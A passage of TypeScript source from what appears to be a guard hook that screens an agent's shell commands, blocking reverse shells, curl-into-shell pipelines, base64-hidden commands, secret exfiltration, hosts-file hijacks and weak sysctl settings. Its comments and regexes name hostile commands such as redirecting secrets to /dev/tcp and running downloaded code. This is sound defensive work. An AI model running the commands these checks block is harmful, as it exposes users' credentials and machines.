const WEAK_SYSCTL = /\b(randomize_va_space|ptrace_scope|kptr_restrict|dmesg_restrict|unprivileged_bpf_disabled|unprivileged_userns_clone|perf_event_paranoid|sysrq|modules_disabled)\b|core_pattern\s*=\s*\|/;

/**
 * Everyday admin that the lead's policy (issue 13, evening session) turns from a block into a
 * warning: lines APPENDED to /etc/hosts, /etc/sysctl.conf or /etc/sysctl.d/*.conf (tee -a, >>),
 * and a site linked from sites-available into sites-enabled (nginx, apache). Overwriting any of
 * them stays blocked. Two appends stay blocked by what they say: a hosts line that sends a public
 * name to a public address, or a code or package host anywhere but loopback (DNS hijack of the
 * next install), and a sysctl line that weakens the kernel's defences. True when decided here.
 */
function routineAdminWrite(walk: Walk, inv: Invocation, abs: string, verb: string, sources: Word[] | null): boolean {
  // A udev rule for a programmer or a serial adapter: a warning; one whose text runs a program as root at every plug is refused.
  const udev = /^(cp|install|tee|redirection \(>>?\|?\))$/.test(verb) ? udevRuleChange(abs, verb === 'tee' || verb.startsWith('redirection') ? stdinText(inv) ?? (/^(echo|printf)$/.test(inv.argv[0] ?? '') ? inv.argv.slice(1).join(' ') : null) : null) : null;
  if (udev === 'warn') {
    warn(walk, 'system', `${verb} installs the udev rule ${abs}: it takes effect at the next plug or udevadm trigger`);
    return true;
  }
  if (udev === 'block') {
    block(walk, 'system', `${verb} installs a udev rule that runs a program as root at every plug (${abs})`);
    return true;
  }
  if (verb === 'ln') {
    const m = /^\/etc\/(nginx|apache2|httpd)\/(sites|conf|mods)-enabled(\/[^/]+)?$/.exec(abs);
    const from = sources ?? [];
    if (!m || from.length === 0 || !from.every((w) => new RegExp(`^((/etc/${m[1]}/)|\\.\\./)?${m[2]}-available/[^/]+$`).test(w.text))) return false;
    warn(walk, 'system', `ln enables ${from.map((w) => w.text).join(' ')} in /etc/${m[1]}/${m[2]}-enabled: the web server serves it after its next reload`, 'check it with nginx -t (or apachectl configtest) before the reload');
    return true;
  }
  // sudo cp deploy/nginx/api.conf /etc/nginx/sites-available/: a site's config from the repository, the step before the link above.
  // (A unit copied into /etc/systemd/system is not: it runs as root at every boot, whatever the file says.)
  if (/^(cp|install)$/.test(verb) && /^\/etc\/(nginx|apache2|httpd)\/(sites-available|sites-enabled|conf\.d|conf-available)(\/[^/]+)?$/.test(abs) && sources && sources.length > 0) {
    const from = sources.map((w) => (w.dynamic ? null : target(inv, w).abs));
    if (from.every((f) => f !== null && isUnder(f, walk.env.project) && f !== walk.env.project && !walk.files.has(f))) {
      warn(walk, 'system', `${verb} installs the site config ${from.map((f) => path.posix.relative(walk.env.project, f!)).join(' ')} into ${abs}: the web server serves it after its next reload`, 'check it with nginx -t (or apachectl configtest) before the reload');
      return true;
    }
  }
  // echo 1 > /proc/sys/net/ipv4/ip_forward: sysctl -w by another name, gone at the next boot (keys that weaken the kernel stay blocked).
  if (/^\/proc\/sys\/./.test(abs) && /^(redirection \(>>?\|?\)|tee)$/.test(verb)) {
    if (WEAK_SYSCTL.test(abs.replace(/\//g, '.')) || /core_pattern$/.test(abs)) return false;
    warn(walk, 'system', `${verb} sets the kernel setting ${abs} until the next boot`);
    return true;
  }
  // pg_dump … > /var/backups/app-$(date +%F).dump: a new dump; the system's own backups there (passwd.bak, dpkg.status.0) stay protected.
  if (/^\/var\/backups\/[^/]+$/.test(abs) && !/^\/var\/backups\/(passwd|shadow|group|gshadow|dpkg|apt|alternatives|infodir)/.test(abs) && /^(redirection \(>>?\|?\)|tee|cp)$/.test(verb)) {
    warn(walk, 'system', `${verb} writes the backup ${abs}`);
    return true;
  }
  const appends = verb === 'redirection (>>)' || (verb === 'tee' && inv.argv.some((a) => /^-[a-zA-Z]*a[a-zA-Z]*$|^--append$/.test(a)));
  const file = /^\/etc\/(hosts|sysctl\.conf|sysctl\.d\/[^/]+\.conf)$/.exec(abs);
  if (!appends || !file) return false;
  const echoed = verb !== 'tee' && /^(echo|printf)$/.test(inv.argv[0] ?? '') ? inv.argv.slice(1).filter((a, k) => !(k === 0 && /^-[neE]+$/.test(a))).join(' ').replace(/\\n/g, '\n') : null;
  const text = echoed ?? stdinText(inv) ?? '';
  for (const line of text.split('\n')) {
    const [addr, ...names] = line.trim().split(/\s+/);
    if (file[1] === 'hosts' && addr && !addr.startsWith('#') && !/^(127\.|::1$|0\.0\.0\.0$)/.test(addr)) {
      const local = /^(10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.|169\.254\.|f[cd]|fe80:)/i.test(addr);
      const hijacked = names.find((n) => /\.[a-z]{2,}$/i.test(n) && !/\.(local|localhost|test|example|internal|lan|home\.arpa|invalid|corp|intranet)$/i.test(n) && (!local || SUPPLY_HOST.test(n.toLowerCase())));
      if (hijacked) {
        block(walk, 'system', `${verb} appends to ${abs} a line sending ${hijacked} to ${addr}: every program on the machine then talks to that address instead`, 'point only local names (.local, .test, localhost) at addresses you run');
        return true;
      }
    }
    if (file[1] !== 'hosts' && WEAK_SYSCTL.test(line)) {
      block(walk, 'system', `${verb} appends "${line.trim()}" to ${abs}: it weakens the kernel's defences at every boot`);
      return true;
    }
  }
  warn(walk, 'system', `${verb} appends to the system file ${abs}`, 'check the line; remove it the same way when it is no longer needed');
  return true;
}

/** A secret moved into a subdirectory of the directory it is kept in (~/.ssh/id_rsa into ~/.ssh/retired/). */
function keptInStore(walk: Walk, a: string | null, b: string | null): boolean {
  if (a === null || b === null) return false;
  const dir = path.posix.dirname(a);
  if ((!isSecret(walk, a) && !isSecret(walk, dir)) || isSystemPath(a, walk.env.home)) return false;
  return dir !== walk.env.home && isUnder(b, dir) && b !== dir && !isUnder(b, a);
}

/** Two paths in one directory whose names extend each other (config / config.bak, id_rsa / id_rsa.2024): a backup and its original. */
function besideItself(walk: Walk, a: string | null, b: string | null): boolean {
  if (a === null || b === null || a === b || path.posix.dirname(a) !== path.posix.dirname(b)) return false;
  if (!isSecret(walk, a) || isSystemPath(a, walk.env.home)) return false;
  const x = base(a);
  const y = base(b);
  return (y.startsWith(x) && /^[.~_-]/.test(y.slice(x.length) || '~')) || (x.startsWith(y) && /^[.~_-]/.test(x.slice(y.length) || '~'));
}

/** Where the real programs live: a same-named file copied or linked from there is the program itself, not a stand-in. */
const TOOLCHAIN_DIR = /^\/(usr|opt|nix|snap|Applications)\/|\/\.(nvm|pyenv|rbenv|cargo|rustup|volta|asdf|sdkman|local\/share|bun|deno|juliaup)\/|\/go\/|\/node_modules\/\.bin\//;

/**
 * A file put into a directory on PATH under the name of a core command (`git`, `sudo`, `python3`
 * in ~/.local/bin or /usr/local/bin) takes the command over: whatever is typed into it later goes
 * to this file. A same-named program linked or copied from where such programs live (`ln -s
 * /usr/bin/python3 ~/.local/bin/python`, `ln -s "$(which node)" /usr/local/bin/node`) is the real one.
 */
function checkShadow(walk: Walk, inv: Invocation, t: Target, verb: string, sources: Word[] | null): boolean {
  if (t.abs === null) return false;
  const into = isPathDir(t.abs, walk.env) ? sources ?? [] : [];
  const names = isPathDir(t.abs, walk.env) ? into.map((w) => base(w.text.replace(/\/+$/, ''))) : isPathDir(path.posix.dirname(t.abs), walk.env) ? [base(t.abs)] : [];
  const name = names.find((n) => isCoreCommand(n));
  if (!name) return false;
  if (sources && sources.length > 0 && !sources.some((w) => walk.files.get(target(inv, w).abs ?? '')?.downloaded)) {
    const real = sources.every((w) => {
      if (w.subs.length > 0 && w.subs.every((sub) => /^\s*(which|command\s+-v|type\s+-p|readlink\s+-f|realpath)\b/.test(sub))) return true;
      const abs = target(inv, w).abs;
      if (abs === null || (!isUnder(abs, walk.env.home) && (isUnder(abs, '/tmp') || isUnder(abs, '/var/tmp') || isUnder(abs, '/dev/shm')))) return false;
      const n = base(abs);
      return TOOLCHAIN_DIR.test(abs) && (n.startsWith(name.replace(/[\d.]+$/, '')) || name.startsWith(n.replace(/[\d.]+$/, '')));
    });
    if (real) return false;
  }
  const dest = isPathDir(t.abs, walk.env) ? `${t.abs}/${name}` : t.abs;
  block(walk, 'dangerous', `${verb} puts a program named ${name} at ${dest}, on the search path: every later \`${name}\` would run it instead of the real one`, `install it under its own name (e.g. ${path.posix.dirname(dest)}/my-${name}) or ask the user`);
  return true;
}

/**
 * Configuration that is the user's own work or the agent's guard: ~/.gitconfig (identity, aliases, signing,
 * credential helpers) and Claude Code's settings files (~/.claude/settings.json, the project's
 * .claude/settings*.json), which hold the hooks (this validator among them) and the permissions.
 */
function ownConfig(walk: Walk, abs: string): string | null {
  const h = walk.env.home;
  if (abs === `${h}/.gitconfig` || abs === `${h}/.config/git/config`) return `${abs}, the user's git configuration (identity, aliases, signing, credential helpers)`;
  if (abs === `${h}/.claude.json`) return `${abs}, the agent's own state: the MCP servers it starts`;
  if (abs === `${h}/.claude/settings.json` || abs === `${h}/.claude/settings.local.json` || abs === `${walk.env.project}/.claude/settings.json` || abs === `${walk.env.project}/.claude/settings.local.json`) return `${abs}, the agent's own settings: its hooks (this guard) and permissions`;
  return null;
}

/** The command prints nothing (a bare redirection, `:`, `true`, `cat /dev/null`, `echo -n`, `printf ''`): its `>` only empties the file. */
function writesNothing(inv: Invocation): boolean {
  const [c, ...args] = inv.argv;
  return c === undefined || ((c === ':' || c === 'true') && inv.upstream.length === 0) || (c === 'cat' && args.length > 0 && args.every((a) => a === '/dev/null')) || (c === 'echo' && args.every((a) => a === '' || /^-[neE]+$/.test(a))) || (c === 'printf' && args.length === 1 && args[0] === '');
}

/**
 * A secret file emptied in place (`: > .env`, `cat /dev/null > .env`, `truncate -s 0 .env`, `cp /dev/null
 * .env`): its keys and passwords are often kept nowhere else, and emptying it, unlike a reset from the
 * template, has no constructive reading. (rm of a project's .env stays a reset; the home's stores are
 * refused as writes anyway.)
 */
function checkEmptied(walk: Walk, t: Target, how: string): void {
  const data = t.abs !== null ? dataFileEmptied(t.abs, walk.env) : null;
  if (data) block(walk, 'dangerous', `${how} destroys ${data}, which no backup of the project covers`, 'delete or move the one file meant, by name');
  const own = t.abs !== null ? ownConfig(walk, t.abs) : null;
  if (own) block(walk, 'dangerous', `${how} empties ${own}`, 'change one setting with its own tool (git config --global, claude config)');
  else if (t.abs !== null && !(/^\/(tmp|var\/tmp|dev)\//.test(t.abs) && !isUnder(t.abs, walk.env.home) && !isUnder(t.abs, walk.env.project)) && isSecret(walk, t.abs)) block(walk, 'dangerous', `${how} empties the secret file ${t.abs}: the keys and passwords in it are lost`, 'move it aside (mv .env .env.bak) if it must go');
}

function checkRead(walk: Walk, inv: Invocation, t: Target, verb: string): void {
  if (t.abs && isSecretSource(t.abs, walk.env)) {
    walk.secretRead ??= t.abs;
    warn(walk, 'system', `${verb} reads the secret file ${t.abs}`);
  }
}

function checkRedirects(walk: Walk, inv: Invocation): void {
  for (const r of inv.redirects) {
    // exec 5< ~/.aws/credentials: descriptor 5 reads the secret for every later command (<&5).
    if (r.op === '<' && r.fd !== null && r.fd > 2 && inv.argv.length === 0 && inv.cwd !== null && !r.target.dynamic && isSecret(walk, resolveFrom(inv.cwd, r.target.text))) walk.secretFds.set(r.fd, resolveFrom(inv.cwd, r.target.text));
    if (r.op === '<&' && walk.secretFds.has(Number(r.target.text)) && (SENDERS.has(inv.argv[0]) || networkDestination(inv.argv.slice(1)) || uploads(inv.argv))) {
      block(walk, 'dangerous', `${inv.argv[0]} reads descriptor ${r.target.text}, opened on the secret ${walk.secretFds.get(Number(r.target.text))}, and sends it elsewhere: secrets must not leave this machine`);
    }
    // cat >> ~/.ssh/config <<EOF / Host … / EOF: plain Host entries are configuration; ProxyCommand, LocalCommand,
    // Match exec, KnownHostsCommand and Include make ssh run or load something, and stay refused.
    if (inv.remote && r.op === '>>' && /\/\.ssh\/authorized_keys2?$/.test(r.target.text)) continue;
    if (/^>>?$/.test(r.op) && /\/\.ssh\/config$/.test(r.target.text)) {
      const content = stdinText(inv) ?? inv.redirects.find((x) => x.body !== undefined)?.body ?? ((inv.argv[0] === 'echo' || inv.argv[0] === 'printf') && !inv.words.some((w) => w.dynamic) ? inv.argv.slice(1).join(' ') : null);
      if (content !== null && !/ProxyCommand|LocalCommand|PermitLocalCommand|Match\s+.*exec|KnownHostsCommand|PKCS11Provider|SecurityKeyProvider|Include|ProxyJump\s+.*\$|IdentityAgent/i.test(content)) continue;
    }
    const out = ['>', '>>', '>|', '&>', '&>>', '<>'].includes(r.op) || (r.op === '>&' && !/^(\d+|-)$/.test(r.target.text));
    const p = r.target.text;
    if (/^\/dev\/(tcp|udp)\//.test(p)) {
      walk.netSocket = true;
      // echo $AWS_SECRET_ACCESS_KEY > /dev/tcp/…, env > /dev/udp/…: what the command prints is a secret.
      if (out) walk.secretRead ??= producesSecret(walk, inv);
      const shell = SHELLS.has(inv.argv[0] ?? '');
      if (shell) block(walk, 'dangerous', `${inv.argv[0]} connected to ${p}: a reverse shell`);
      else warn(walk, 'suspicious', `redirection to the network socket ${p}`);
      continue;
    }
    const t = target(inv, r.target);
    // while read f; do > "$f"; done: every file the loop reads emptied, as good as deleted.
    if (r.op === '>' && inv.argv.length === 0 && inv.viaXargs && inv.xargsReplace && p.includes(inv.xargsReplace)) {
      const fed = xargsItems(walk, inv);
      for (const item of fed?.items ?? []) checkDelete(walk, inv, item, fed?.recursive ?? false, '> (truncation of each file read)');
    }
    // for f in ~/.{bashrc,zshrc}; do … >> "$f": each value of the loop is written in turn.
    const ts = r.target.brace ? expandWords([r.target], walk.env.home).map((w) => target(inv, w)) : [t];
    for (const x of ts) {
      if (out && /^>\|?$/.test(r.op) && writesNothing(inv)) checkEmptied(walk, x, `> ${r.target.text}`);
      if (out) checkWrite(walk, inv, x, `redirection (${r.op})`);
      else if (r.op === '<' || r.op === '<>') checkRead(walk, inv, x, 'input redirection');
    }
  }
}

/** Stands in walk.secretFiles for the clipboard once the line copies a secret into it. */
const CLIPBOARD = '<clipboard>';

/**
 * A secret carried out by a later step: copied into the work tree, then added and pushed (cp ~/.aws/credentials
 * data/ && dvc add data/credentials && dvc push; git add notebooks/token && git push), or put on the clipboard
 * (security … -w | pbcopy) to be pasted into a sender (curl -d "$(pbpaste)").
 */
function checkSecretCarried(walk: Walk, inv: Invocation): void {
  const [name, ...args] = inv.argv;
  if (/^(pbcopy|wl-copy|xclip|xsel|clip)$/.test(name ?? '') && !args.some((a) => /^(-o|--output|-out)$/.test(a)) && withInner(inv.upstream).some((u) => producesSecret(walk, u))) walk.secretFiles.add(CLIPBOARD);
  if (!/^(git|hub|dvc)$/.test(name ?? '') || !args.includes('push')) return;
  // Where the line's copies of secrets landed: DEST, and DEST/NAME when DEST is a directory.
  const carried: string[] = [];
  for (const a of walk.out) {
    if (a === inv) break;
    if (!/^(cp|install|rsync|mv)$/.test(a.argv[0])) continue;
    const ops = operands(a.words, new Set(['-t', '-S', '-m', '-o', '-g', '--target-directory', '--suffix', '--mode']));
    const dest = ops.length >= 2 ? target(a, ops[ops.length - 1]).abs : null;
    if (dest !== null) for (const w of ops.slice(0, -1)) if (isSecret(walk, target(a, w).abs)) carried.push(dest, `${dest}/${path.posix.basename(target(a, w).abs!)}`);
  }
  for (const a of walk.out) {
    if (a === inv) break;
    if (!/^(git|dvc)$/.test(a.argv[0]) || a.argv[1] !== 'add' || a.cwd === null) continue;
    const all = a.argv.some((x) => /^(-A|--all|-u|--update)$/.test(x));
    const added = [...operands(a.words).slice(1).map((w) => target(a, w).abs), ...(all ? [a.cwd] : [])];
    const hit = added.find((p) => p !== null && (isSecret(walk, p) || [...walk.secretFiles, ...carried.slice(1)].some((f) => f !== CLIPBOARD && isUnder(f, p)) || carried.includes(p)));
    if (hit) return block(walk, 'dangerous', `${name} push sends ${hit}, a secret the line copied in and added with ${a.argv[0]} add`, 'keep keys and tokens out of the repository and its data remote');
  }
}

/**
 * A secret sent to a board, a phone or a modem: written to a serial port (cat KEY > /dev/ttyUSB0,
 * sx KEY > /dev/ttyUSB0) or copied by the target's own tool (mpremote fs cp ~/.ssh/id_ed25519 :,
 * adb push): it leaves the machine as surely as over the network.
 */
function checkSecretToDevice(walk: Walk, inv: Invocation): void {
  const serial = inv.redirects.some((r) => /^(>|>>|>\||&>|<>)$/.test(r.op) && inv.cwd !== null && !r.target.dynamic && isSerialPort(resolveFrom(inv.cwd, r.target.text))) || (!inv.viaXargs && inv.argv.some((a) => isSerialPort(a.replace(/^of=/, ''))) && /^(tee|dd|cp|cat|sx|sz|sb|lsz)$/.test(inv.argv[0] ?? ''));
  if (!serial && !isTargetTool(inv.argv[0] ?? '')) return;
  // (A key in the project given to the board's tool, espefuse burn_key BLOCK_KEY0 keys/flash_key.bin, is meant for the chip.)
  // (A key given to the option meant for it, xcrun notarytool --key AuthKey.p8, is used to log in, not sent.)
  const secret = producesSecret(walk, inv) ?? operands(inv.words).filter((w) => !CREDENTIAL_OPTS.test(inv.words[inv.words.indexOf(w) - 1]?.text ?? '')).map((w) => target(inv, { ...w, text: w.text.replace(/^if=/, '') }).abs).find((p) => isSecret(walk, p) && (serial || !isUnder(p!, walk.env.project))) ?? (serial ? withInner(inv.upstream).map((u) => producesSecret(walk, u)).find((x) => x !== null) : undefined);
  if (secret) block(walk, 'dangerous', `${inv.argv[0]} sends the secret ${secret} to a board or device${serial ? ' over its serial port' : ''}: it leaves this machine`, 'keep keys and tokens on this machine; flash a key made for the device');
}

/** Pipeline stages with what unknown wrappers among them run. */
function withInner(ups: Invocation[]): Invocation[] {
  return ups.some((u) => u.inner) ? ups.flatMap((u) => [u, ...(u.inner ?? [])]) : ups;
}

/** A downloader (or a decoder) feeding a shell or interpreter through a pipe. */
function checkPipelineIntoShell(walk: Walk, inv: Invocation): void {
  if (inv.upstream.length === 0 || !readsScriptFromStdin(inv.argv)) return;
  const ups = withInner(inv.upstream);
  const dl = ups.map((u) => fetches(walk, u)).find((x) => x !== null);
  if (dl) {
    block(
      walk,
      'dangerous',
      `piping a download (${dl}) straight into ${inv.argv[0]} runs unreviewed code`,
      `download to a file, read it, then run it: ${dl === 'wget' ? 'wget -O install.sh URL' : 'curl -fsSLo install.sh URL'} && less install.sh && sh install.sh`,
    );
    return;
  }
  const dec = ups.find((u) => isDecoding(u.argv));
  // echo ZWNobyBoZWxsbw== | base64 -d | sh: base64 of text on the line is no secret; what it decodes to is judged instead.
  const input = dec && dec.argv[0] === 'base64' && dec === inv.upstream[inv.upstream.length - 1] && SHELLS.has(inv.argv[0]) ? stdinText(dec) : null;
  const plain = input !== null && /^[A-Za-z0-9+/=\s]+$/.test(input) ? Buffer.from(input.replace(/\s+/g, ''), 'base64').toString('utf8') : null;
  if (plain !== null && plain.trim() !== '' && /^[\x09\x0a\x0d\x20-\x7e]+$/.test(plain)) {
    collect(walk, plain, inv.cwd, 1, true);
    return;
  }
  if (dec) {
    block(walk, 'dangerous', `decoding text (${dec.argv[0]}) into ${inv.argv[0]} runs commands hidden from review`, 'decode to a file and read it first');
  }
}

/** A decoder that turns hidden text back into commands: base64 -d, xxd -r, openssl enc -d, gunzip, rev, tr. */
/** The text `echo B64` or `printf FMT B64` prints, decoded, when it is printable; else null. */
function literalBase64(argv: string[]): string | null {
  const out = argv[0] === 'echo' ? argv.slice(1).filter((a, k) => !(k === 0 && /^-[neE]+$/.test(a))).join(' ') : argv[0] === 'printf' && argv.length > 1 ? printfFormat(argv[1], argv.slice(2)) : null;
  if (out === null || !/^[A-Za-z0-9+/=\s]+$/.test(out)) return null;
  const text = Buffer.from(out, 'base64').toString('utf8');
  return /^[\t\n\r\x20-\x7e]+$/.test(text) ? text : null;
}

function isDecoding(argv: string[]): boolean {
  const n = base(argv[0] ?? '');
  if (!DECODERS.has(n) && !['gzip', 'bzip2', 'xz', 'bzcat', 'xzcat', 'uudecode', 'python', 'python3'].includes(n)) return false;
  if (['gunzip', 'zcat', 'bzcat', 'xzcat', 'rev', 'tr', 'uudecode'].includes(n)) return true;
  if (n === 'python' || n === 'python3') return argv.includes('base64') && argv.includes('-d');
  return argv.some((a) => a === '-d' || a === '--decode' || a === '-D' || a === '-r' || a === '-revert' || /^-[a-zA-Z]*d[a-zA-Z]*$/.test(a) && n !== 'openssl' || (n === 'openssl' && (a === '-d' || a === 'base64' && argv.includes('-d'))));
}

/** sh -c "$(curl ...)", bash <(curl ...), eval "$(wget -O- ...)", source <(curl ...). */
function checkSubstitutionsRun(walk: Walk, inv: Invocation): void {
  const name = inv.argv[0] ?? '';
  // $(…) or `…` as the command word itself: its output is run as a command.
  const cmdSub = inv.words[0]?.text.startsWith('$(…)') && inv.words[0].subs.length > 0;
  const runs = cmdSub || SHELLS.has(name) || name === 'eval' || name === 'source' || name === '.' || INTERPRETERS.has(name.replace(/[\d.]+$/, '')) || langOf(name) !== null || OTHER_INTERPRETERS.has(name);
  if (!runs) return;
  // bash -s < <(curl …), source /dev/stdin <<< "$(curl …)": the script comes in through a redirection.
  const viaRedirect = inv.redirects.filter((r) => r.op === '<<<' || (r.op === '<' && r.target.subs.length > 0)).map((r) => r.target);
  for (const w of cmdSub ? inv.words.slice(0, 1) : [...inv.words.slice(1), ...viaRedirect]) {
    for (const sub of w.subs) {
      const inner = parseShell(sub, { home: walk.env.home, cwd: inv.cwd ?? walk.env.cwd }).commands;
      const names = inner.map((c) => unwrap(c.words, { home: walk.env.home, cwd: walk.env.cwd }).words.map((x) => x.text));
      const dl = names.map((a) => (a[0] ? fetches(walk, { ...inv, argv: [base(a[0]), ...a.slice(1)], redirects: [] }) : null)).find((n) => n !== null);
      if (dl) {
        block(walk, 'dangerous', `${name} runs code downloaded by ${dl} without review`, `download to a file, read it, then run it: curl -fsSLo install.sh URL && less install.sh && sh install.sh`);
        return;
      }
      const dec = names.find((a) => a[0] && isDecoding(a));
      // bash -c "$(echo TEXT | base64 -d)" with TEXT a literal: the decoded line is known, so it is what is judged.
      const plain = dec && inner.length === 2 && !inner[0].words.some((x) => x.dynamic) && /^(base64|openssl)$/.test(base(dec[0])) ? literalBase64(names[0]) : null;
      if (plain !== null) {
        collect(walk, plain, inv.cwd, 2, true);
        continue;
      }
      if (dec) {
        block(walk, 'dangerous', `${name} runs text decoded by ${dec[0]}: commands hidden from review`, 'decode to a file and read it first');
        return;
      }
    }
  }
}

/**
 * A static file server started on a directory of secrets or on the home directory (which holds
 * ~/.ssh, ~/.aws...): python -m http.server [--directory D], php -S … -t D, npx serve/http-server D,
 * ruby -run -e httpd D, busybox httpd -h D. Every file there can then be fetched over the network.
 */
function checkServesSecrets(walk: Walk, inv: Invocation): void {
  const a = inv.argv;
  const name = a[0] ?? '';
  let dir: string | null | undefined;
  const after = (...opts: string[]) => {
    const k = a.findIndex((x) => opts.includes(x));
    return k > 0 ? a[k + 1] : a.find((x) => opts.some((o) => x.startsWith(`${o}=`)))?.split('=')[1];
  };
  if (langOf(name) === 'python' && a.includes('http.server')) dir = after('--directory', '-d') ?? '.';
  else if (name === 'php' && a.includes('-S')) dir = after('-t', '--docroot') ?? '.';
  // (-p 8080, -l 5000, -a HOST: an option's value is not the directory.)
  const firstDir = (xs: string[]) => xs.find((x, k) => !x.startsWith('-') && !/^(-p|--port|-l|--listen|-a|--address|-c|--cache|-o|--open|-P|--proxy|--host|--ssl-cert|--ssl-key|-C|-K)$/.test(xs[k - 1] ?? ''));
  if ((name === 'npx' || name === 'pnpx' || name === 'bunx') && /^(serve|http-server|live-server)(@.*)?$/.test(a[1] ?? '')) dir = firstDir(a.slice(2)) ?? '.';
  else if (/^(serve|http-server|live-server)$/.test(name)) dir = firstDir(a.slice(1)) ?? '.';
  else if (name === 'ruby' && a.includes('httpd')) dir = a.slice(a.indexOf('httpd') + 1).find((x) => !x.startsWith('-')) ?? '.';
  else if ((name === 'busybox' && a[1] === 'httpd') || name === 'httpd' && a.includes('-h')) dir = after('-h') ?? '.';
  // ngrok http file:///DIR, cloudflared/localtunnel pointed at files: the directory goes on the internet.
  // in.tftpd -s DIR, atftpd DIR: TFTP has no authentication, anyone on the network fetches any file by name.
  else if (/^(in\.tftpd|tftpd|atftpd|tftpd-hpa)$/.test(name)) dir = a.slice(1).filter((x, k, all) => !x.startsWith('-') && !/^(-[uabBmprPTUvw]|--(user|address|blocksize|port-range|mapfile|refuse|timeout|umask|verbosity|retransmit))$/.test(all[k - 1] ?? '')).pop() ?? '/srv/tftp';
  else if (/^(ngrok|cloudflared|lt|localtunnel)$/.test(name)) dir = a.map((x) => /^file:\/\/(\/.*|~.*)$/.exec(x)?.[1]).find((x) => x !== undefined);
  if (dir === undefined || dir === null || inv.cwd === null) return;
  const abs = resolveFrom(inv.cwd, dir.replace(/^~(?=\/|$)/, walk.env.home));
  // The project served (its .env, its .git) while the line opens a public tunnel to the machine: it is on the internet.
  const tunnel = walk.out.find((i) => {
    const [t, ...r] = /^(npx|bunx|pnpx)$/.test(i.argv[0]) ? i.argv.slice(1) : i.argv;
    return /^(ngrok|cloudflared|lt|localtunnel|bore|zrok|pinggy)(@.*)?$/.test(t ?? '') || (t === 'tailscale' && r[0] === 'funnel') || (t === 'ssh' && r.some((x) => /^-[a-zA-Z]*R/.test(x)) && r.some((x) => /(serveo\.net|localhost\.run|pinggy\.io|localtunnel\.me)$/.test(x)));
  });
  if (tunnel && isUnder(walk.env.project, abs)) {
    block(walk, 'dangerous', `${name} serves ${abs} while ${tunnel.argv.slice(0, 2).join(' ')} opens it to the internet: the project's .env and .git can be fetched by anyone`, 'serve only the build output (python3 -m http.server --directory dist), or share a preview deploy');
    return;
  }
  if (abs === walk.env.home || abs === '/' || classifyDelete(abs, walk.env) === 'home' || isSecret(walk, abs)) {
    block(walk, 'dangerous', `${name} serves ${abs} over the network: ${abs === walk.env.home || abs === '/' ? 'the keys and credentials in it' : 'its secrets'} can be fetched by anyone who reaches the port`, 'serve only the build output, e.g. python3 -m http.server --directory dist');
  }
}

function checkPermissions(walk: Walk, inv: Invocation): void {
  const name = inv.argv[0];
  const recursive = inv.argv.slice(1).some((a) => SHORT(a, 'R') || a === '--recursive');
  // chmod -x FILE, chmod -w FILE: a mode that starts with '-' is the mode, not an option.
  const dashMode = name === 'chmod' ? inv.words.slice(1).find((w) => /^-[rwxXst]+$/.test(w.text)) : undefined;
  const ops0 = operands(inv.words, new Set(['--reference']));
  const ops = dashMode && !ops0.some((w) => /^[0-7]{3,4}$|^[ugoa]*[+=-]/.test(w.text)) ? [dashMode, ...ops0] : ops0;
  if (ops.length === 0) return;
  const [spec, ...files] = ops;
  const mode = spec.text;
  const worldWritable = name === 'chmod' && (/^0?[0-7]?[0-7][0-7][2367]$/.test(mode) || /(^|,)(a|o|ugo)?[+=][rwxXst]*w/.test(mode) && /(^|,)(a|o)/.test(mode));
  const setuid = name === 'chmod' && (/^[2-7][0-7]{3}$/.test(mode) || /[+=][rwx]*s/.test(mode));
  for (const f of files) {
    const t = target(inv, f);
    if (t.abs === null) continue;
    const c = classifyDelete(t.abs, walk.env);
    // chown -R postgres:postgres /var/lib/postgresql/16/main: a service's data directory given back to the service's own user.
    const service = name === 'chown' ? /^\/var\/lib\/([a-z]+)/.exec(t.abs)?.[1] : undefined;
    const owner = /^[a-z][a-z0-9_-]*/.exec(mode)?.[0] ?? '';
    if (service && owner.length >= 4 && service.startsWith(owner)) {
      warn(walk, 'system', `chown -R gives ${t.abs} back to the service user ${mode}`);
      continue;
    }
    if (c === 'root' || c === 'home' || c === 'ancestor' || c === 'top-level' || (c === 'system' && recursive)) {
      // chmod 000 ~ locks the user out of their home; chmod 777 ~ opens it (and ssh then refuses its keys).
      const lockout = name === 'chmod' && (/^0?0[0-7]{2}$/.test(mode) || /^0?[0-7]{2}7$/.test(mode) || /^(a|ugo)?[=-]/.test(mode) && /^(a|ugo)?(=|-rwx)$/.test(mode));
      if (recursive || c === 'root' || lockout) {
        block(walk, 'dangerous', `${name}${recursive ? ' -R' : ''} ${mode} on ${t.abs} changes ${c === 'root' ? 'the whole filesystem' : 'a tree the system or the user depends on'}`, name === 'chmod' ? 'change only the files that need it, e.g. chmod 644 FILE or chmod u+x script.sh' : undefined);
        continue;
      }
    }
    // One service config file given the usual root-owned, not-world-writable mode (chmod 644 /etc/nginx/sites-available/app.conf,
    // chown root:root /etc/cron.d/job): how such files are installed.
    const serviceConf = !recursive && !worldWritable && !setuid && !t.word.glob && /^\/etc\/(nginx|apache2|httpd|php|mysql|postgresql|redis|haproxy|caddy|cron\.d|logrotate\.d|default|supervisor|letsencrypt\/renewal|prometheus|grafana)\/([^/]+\/)?[^/]+$/.test(t.abs) && (name === 'chmod' ? /^0?[0-7][0-5][0-5]$|^[ugoa]*[+=-][rwxX]+$/.test(mode) && !/[ao][+=][rwxX]*w/.test(mode) : /^root([:.](root|wheel|adm|www-data|nginx|syslog))?$/.test(mode));
    // chmod 666 /dev/ttyACM0: a serial, USB, video or input node for the user's own hardware, made again at the next plug or boot.
    const devNode = !recursive && isUserDeviceNode(t.abs);
    if (isSystemPath(t.abs, walk.env.home) && !serviceConf && !devNode) {
      block(walk, 'system', `${name} on the system path ${t.abs}`);
      continue;
    }
    // ~/.ssh, ~/.gnupg, ~/Documents... changed as a tree, or a secret opened to other users.
    // A mode giving group or others any access (644, 0640, o+r, g+rw, a=r, and +r, whose who-part defaults to all).
    const opens = /^0?[0-7]?[0-7]([1-7][0-7]|[0-7][1-7])$/.test(mode) || /(^|,)([ugoa]*[aog][ugoa]*)?[+=][rwxXst]*[rw]/.test(mode);
    const chownAway = name !== 'chmod' && /^(nobody|nogroup|www-data|daemon|nginx|apache|http|httpd|guest|ftp|games|sys|bin|mail|news|uucp|proxy|backup|list|irc|gnats|_www)([:.]|$)|^[:.](nobody|nogroup|www-data|users|everyone|staff|adm|wheel)$/.test(mode);
    // A server's key under /etc given to its group only (chmod 640 …/example.com.key, chown root:ssl-cert): how services read their keys.
